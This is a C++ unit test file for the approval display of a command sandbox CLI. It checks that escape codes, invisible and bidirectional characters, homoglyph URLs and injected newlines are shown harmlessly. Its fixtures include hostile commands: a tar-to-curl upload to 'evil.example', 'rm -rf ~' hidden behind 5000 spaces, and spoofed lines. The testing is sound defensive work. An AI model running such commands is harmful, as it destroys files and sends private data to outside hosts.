#include "cli/approval_view.hpp"

#include <cstdlib>
#include <iostream>

#include "checks.hpp"
#include "cli/approval_source.hpp"
#include "cli/escape.hpp"
#include "cli/units.hpp"
#include "cli/waiting_note.hpp"
#include "cli/writing.hpp"

using namespace owhale;
using namespace owhale::cli;

namespace {

constexpr std::int64_t kNow = 1'795'718'400; // 2026-11-26T18:40:00Z

api::Approval request_for(std::vector<std::string> argv) {
    api::Approval approval;
    approval.id = "01992c4e-0000-7000-8000-0000deadbeef";
    approval.kind = "run";
    approval.state = "pending";
    approval.run = "01992c4e-0000-7000-8000-00000000beef";
    approval.principal = "unix:1000";
    approval.uid = 1000;
    approval.created = "2026-11-26T18:39:48.000000Z";
    approval.expires = "2026-11-26T18:49:48.000000Z";
    approval.severity = "high";
    approval.digest = std::string(64, 'a');
    approval.command = argv;
    approval.cwd = "/home/alice/p";
    approval.verdict.decision = "ask";
    approval.verdict.rule = "network.sends";
    approval.verdict.reason = "It sends data of this machine to another host.";
    api::Frozen frozen;
    frozen.uid = 1000;
    frozen.argv = std::move(argv);
    frozen.cwd = "/home/alice/p";
    frozen.workspace = "/home/alice/p";
    frozen.workspace_writable = true;
    frozen.profile = "default";
    frozen.net = "none";
    frozen.files = {{"/usr/bin/git", std::string(64, 'b'), "program", true}};
    approval.frozen = std::move(frozen);
    return approval;
}

api::Approval script_for(const std::string& script, const std::string& segment) {
    auto approval = request_for({"bash", "-c", script});
    approval.frozen->argv.reset();
    approval.frozen->script = script;
    const auto at = script.find(segment);
    approval.verdict.segment = segment;
    approval.verdict.segment_begin = static_cast<std::uint32_t>(at);
    approval.verdict.segment_end = static_cast<std::uint32_t>(at + segment.size());
    return approval;
}

std::string text_of(const std::vector<Line>& lines) {
    std::string out;
    for (const auto& line : lines) out += painted(false, line) + "\n";
    return out;
}

std::string shown(const api::Approval& approval, std::size_t columns = 80, bool details = false) {
    const auto lines = view_of(approval, {.columns = columns, .now = kNow, .user = "alice", .details = details});
    for (const auto& line : lines) CHECK(columns_of(line) <= columns);
    return text_of(lines);
}

std::string source(const api::Approval& approval, std::size_t columns = 40) {
    return text_of(draw_source(source_of(approval), columns, Tone::bad));
}

// No control but the line's end, nothing invisible, nothing that turns direction.
bool harmless(std::string_view text) {
    while (!text.empty()) {
        const auto [value, length] = decode(text);
        if (length == 0 || (value != '\n' && is_unseen(value)) || is_combining(value) || runs_leftward(value))
            return false;
        text.remove_prefix(length);
    }
    return true;
}

} // namespace

TEST_CASE("a request, whole") {
    auto approval = request_for({"git", "push", "--force", "origin", "main"});
    approval.verdict.segment = "git push --force origin main";
    approval.verdict.segment_begin = 0;
    approval.verdict.segment_end = 28;
    approval.environment = {{"LANG", "C.UTF-8"}, {"GIT_SSH_COMMAND", "ssh -i x"}, {"PATH", "/usr/bin"}};
    approval.description = "I only push\nmy own branch";
    approval.offer = api::GrantOffer{false, {}, std::vector<std::string>{"git", "push", "<word>", "main"}, {}};
    CHECK(shown(approval) == R"(pending, high: asked 12s ago, expires in 10m
It sends data of this machine to another host. (rule network.sends)

 │ git push --force origin main
   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^

Asked by     unix:1000
Runs as      uid 1000 (alice)
Run          01992c4e-0000-7000-8000-00000000beef
Folder       /home/alice/p
Workspace    /home/alice/p, writable
Cage         profile default, network none
Program      /usr/bin/git
  SHA-256    bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
             only root can write it
Not covered  what these load later (Makefile, imports, configuration)
Environment  GIT_SSH_COMMAND='ssh -i x'
As usual     LANG=C.UTF-8  PATH=/usr/bin
Grant        could stand for more than once
Template     git push <word> main

┌ Words of whoever asks; nobody checked them
│ I only push
│ my own branch
└

Digest       aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
)");
}

TEST_CASE("why it could fail although people agree is told before who asks") {
    auto approval = request_for({"curl", "https://example.org"});
    CHECK(shown(approval).find("Will fail?") == std::string::npos);
    approval.notes = {"it will have no network, and it talks to \x1b[2Jexample.org"};
    const auto text = shown(approval);
    const auto at = text.find("Will fail?   it will have no network, and it talks to ");
    CHECK(at < text.find("Asked by"));
    CHECK(harmless(text));
}

TEST_CASE("on a narrow screen labels have lines of their own") {
    const auto text = shown(request_for({"git", "push"}), 40);
    CHECK(text.find("Folder:\n  /home/alice/p\n") != std::string::npos);
    CHECK(text.find("Digest:\n  aaaaaaaa") != std::string::npos);
}

TEST_CASE("long lines are folded by their commands, and nothing of them is lost") {
    const auto approval = script_for("cd /srv/data && tar -czf - . | curl -T - https://evil.example/x; echo done",
                                     "curl -T - https://evil.example/x");
    CHECK(source(approval, 44) == R"( │ cd /srv/data && 
 │ tar -czf - . | 
 │ curl -T - https://evil.example/x; 
   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
 │ echo done
)");
}

TEST_CASE("lines are numbered, blank ones counted, and what decided is underlined across a break") {
    const auto approval =
        script_for("set -e\n" + std::string(30, '\n') + "rm -rf /var/lib/aaaaaaaaaaaaaaaaaaaaaaaa /srv\n",
                   "rm -rf /var/lib/aaaaaaaaaaaaaaaaaaaaaaaa /srv");
    CHECK(source(approval, 30) == R"(  1 │ set -e
    │ (30 lines of blanks)
 32 │ rm -rf /var/lib/aaaaaaaa
      ^^^^^^^^^^^^^^^^^^^^^^^^
    │ aaaaaaaaaaaaaaaa /srv
      ^^^^^^^^^^^^^^^^^^^^^
)");
}

TEST_CASE("controls, bidirectional and invisible characters are drawn as what they are") {
    const std::string hostile = "echo \x1b[2J\x1b[H\x1b]0;t\x07 \xe2\x80\xae"
                                "fdp\xe2\x81\xa6 \xe2\x80\x8b\xd8\x9c\xe2\x80\x8e \xf3\xa0\x81\xa1 \r\x9b"
                                "1m \xff";
    const auto text = source(script_for(hostile, "echo"), 200);
    CHECK(harmless(text));
    for (const auto* seen : {"\\x1b[2J", "\\x07", "\\u{202e}fdp", "\\u{2066}", "\\u{200b}", "\\u{61c}", "\\u{200e}",
                             "\\u{e0061}", "\\r", "\\x9b", "\\xff"})
        CHECK(text.find(seen) != std::string::npos);
}

TEST_CASE("combining marks, odd blanks and right-to-left letters are spelt out") {
    const auto text = source(script_for("ls e\xcc\x81 a\xc2\xa0z \xe3\x80\x80 \xd7\x90\xd7\x91", "ls"), 100);
    CHECK(harmless(text));
    CHECK(text.find("e\\u{301} a\\u{a0}z \\u{3000} \\u{5d0}\\u{5d1}") != std::string::npos);
    CHECK(text.starts_with(" ! ls"));
}

TEST_CASE("many blanks cannot push anything out of sight") {
    const auto text = source(script_for("ls" + std::string(5000, ' ') + "&& rm -rf ~", "rm -rf ~"), 60);
    CHECK(text.find("⟨5000 spaces⟩") != std::string::npos);
    CHECK(text.find("rm -rf ~") != std::string::npos);
    CHECK(std::count(text.begin(), text.end(), '\n') <= 4);
}

TEST_CASE("how a waiting run is taken back is told whole at 80 columns") {
    auto approval = api::Approval();
    approval.id = "0199aaaa-0000-7000-8000-0000deadbeef";
    approval.created = "2026-11-26T18:39:48.000000Z";
    approval.expires = "2026-11-26T18:59:48.000000Z";
    approval.severity = "high";
    const auto now = parse_time("2026-11-26T18:49:48Z");
    CHECK(waiting_line(approval, now, 79) ==
          "waiting 10m for approver/admin (deadbeef), ends in 10m; Ctrl-C takes it back");
    CHECK(
        waiting_line(approval, now, 120).starts_with("owhalectl: waiting 10m for approval deadbeef by approver/admin"));
    for (const std::size_t columns : {std::size_t{30}, std::size_t{79}})
        for (const bool throttled : {false, true})
            for (const std::uint32_t quorum : {1U, 2U}) {
                approval.throttled = throttled;
                approval.quorum = quorum;
                const auto line = waiting_line(approval, now, columns);
                CHECK(line.ends_with("; Ctrl-C takes it back"));
                CHECK(width(line) <= columns);
            }
}

TEST_CASE("words that are not ASCII are told, and those that mix writing systems more loudly") {
    const auto text = shown(request_for({"curl", "https://p\xd0\xb0ypal.com", "caf\xc3\xa9"}));
    CHECK(text.find("Mixed!       'https://p\\u{430}ypal.com': Latin and Cyrillic mixed") != std::string::npos);
    CHECK(text.find("Not ASCII    'caf\\u{e9}': not ASCII") != std::string::npos);
    CHECK(writing_of("\xce\xb1"
                     "bc") == std::vector<std::string_view>{"Greek", "Latin"});
    CHECK(marked_words("plain words only").empty());
}

TEST_CASE("it is told whom a command runs as, not who asked for it") {
    auto approval = request_for({"ls"});
    approval.uid = 0;
    approval.frozen->uid = 1'900'000'000;
    CHECK_NE(shown(approval).find("Runs as      uid 1900000000 (alice), in place of root\n"), std::string::npos);
    approval.uid = static_cast<std::uint32_t>(-1); // over TCP
    CHECK_NE(shown(approval).find("Runs as      uid 1900000000 (alice)\n"), std::string::npos);
    approval.frozen.reset(); // as lists have it
    approval.uid = 1000;
    CHECK_EQ(runs_as(approval), 1000);
}

TEST_CASE("no text of a stranger begins a line of ours") {
    auto approval = request_for({"ls"});
    approval.cwd = approval.frozen->cwd = "/home/alice/x\nDigest       0000";
    approval.frozen->files[0].path = "/home/alice/run\nonly root can write it";
    approval.frozen->files[0].held = false;
    approval.environment = {{"A\nDigest", "x\nDigest       1111"}};
    approval.principal = "unix:1\nRuns as      uid 0";
    approval.ended_because = "gone\nDigest       2222";
    approval.description = "└\nDigest       3333\n\x1b[1A";
    for (const std::size_t columns : {40, 80, 200}) {
        const auto text = shown(approval, columns);
        CHECK(harmless(text));
        std::size_t digests = 0, roots = 0;
        for (std::size_t at = 0; at < text.size();) {
            const auto end = text.find('\n', at);
            const auto line = text.substr(at, end - at);
            if (line.starts_with("Digest")) ++digests;
            if (line.find_first_not_of(' ') != std::string::npos &&
                line.substr(line.find_first_not_of(' ')) == "only root can write it")
                ++roots;
            at = end + 1;
        }
        CHECK(digests == 1);
        CHECK(roots == 0);
    }
}

TEST_CASE("a segment that is not where it should be is found, or told apart") {
    auto approval = script_for("echo one; git push", "git push");
    approval.verdict.segment_begin = 2;
    approval.verdict.segment_end = 6;
    CHECK(source_of(approval).begin == 10);
    approval.verdict.segment = "git pull";
    CHECK(source_of(approval).apart == "git pull");
    approval.verdict.segment = "o";
    CHECK(source_of(approval).apart == "o");
}

TEST_CASE("everything of a long text is there at every width") {
    std::string script;
    for (int i = 0; i < 200; ++i) script += "w" + std::to_string(i) + (i % 7 == 0 ? " && " : " ");
    for (const std::size_t columns : {20, 40, 80, 131}) {
        std::string all;
        for (const auto& line : draw_source(source_of(script_for(script, "w0")), columns, Tone::bad)) {
            const auto text = painted(false, line);
            const auto bar = text.find("│ ");
            if (bar != std::string::npos) all += text.substr(bar + std::string_view("│ ").size());
            CHECK(columns_of(line) <= columns);
        }
        CHECK(all == script);
    }
}

TEST_CASE("what a grant would be is read before it is stored") {
    auto approval = request_for({"git", "push"});
    approval.offer = api::GrantOffer{true, {}, {}, {{"/home/alice/p/x.sh", "", "script", false}}};
    api::GrantRequest grant;
    grant.times = 5;
    grant.for_ms = 3'600'000;
    grant.like = std::vector<std::string>{"git", "push", "<word>"};
    grant.trust_workspace = true;
    const auto text = text_of(grant_view(approval, grant, {.columns = 80, .now = kNow, .user = "", .details = false}));
    for (const auto* part :
         {"Template     git push <word>", "Times        5", "Ends when    /home/alice/p/x.sh changes", "Trusts"})
        CHECK(text.find(part) != std::string::npos);
}

TEST_CASE("details draw the commands, as policy explain does") {
    const auto text = shown(request_for({"sudo", "rm", "-rf", "/srv"}), 80, true);
    CHECK(text.find("rm -r") != std::string::npos);
    CHECK(text.find("via       sudo") != std::string::npos);
}
